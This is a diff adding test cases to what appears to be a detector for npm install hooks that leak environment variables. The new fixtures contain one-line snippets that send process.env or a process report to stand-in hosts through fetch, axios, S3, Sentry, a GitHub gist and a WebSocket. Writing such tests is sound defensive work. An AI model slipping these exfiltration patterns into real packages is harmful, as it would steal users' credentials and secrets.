@@ -6,6 +6,37 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a report on the process holds it',
+      files: {
+        'index.js': `fetch('https://sink.invalid/', { method: 'POST', body: JSON.stringify(process.report.getReport()) });`,
+      },
+    },
+    {
+      when: 'a storage service is given all of it',
+      files: {
+        'index.js': `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');
+new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.stringify(process.env) }));`,
+      },
+    },
+    {
+      when: 'a collector of errors is given all of it',
+      files: {
+        'index.js': `const Sentry = require('@sentry/node'); Sentry.init({ dsn: 'https://a@sink.invalid/1' }); Sentry.captureMessage(JSON.stringify(process.env));`,
+      },
+    },
+    {
+      when: 'a gist is made of it',
+      files: {
+        'index.js': `const { Octokit } = require('octokit'); new Octokit({}).rest.gists.create({ files: { a: { content: JSON.stringify(process.env) } } });`,
+      },
+    },
+    {
+      when: 'a client made with settings of its own sends it',
+      files: {
+        'index.js': `const axios = require('axios'); const api = axios.create({ baseURL: 'https://sink.invalid' }); api({ url: '/x', method: 'post', data: process.env });`,
+      },
+    },
+    {
       when: 'the handler of a socket sends it',
       files: { 'index.js': `const w = new WebSocket('wss://c2.invalid'); w.onopen = () => w.send(JSON.stringify(process.env))` },
       weight: 'proof',
@@ -72,6 +103,12 @@ examine(sendsEnvironment, {
     },
   ],
   silent: [
+    {
+      when: 'a client of a service is handed its key',
+      files: {
+        'index.js': `const { S3Client } = require('@aws-sdk/client-s3'); exports.client = new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });`,
+      },
+    },
     {
       when: 'a client sends its own key when it is called',
       files: {
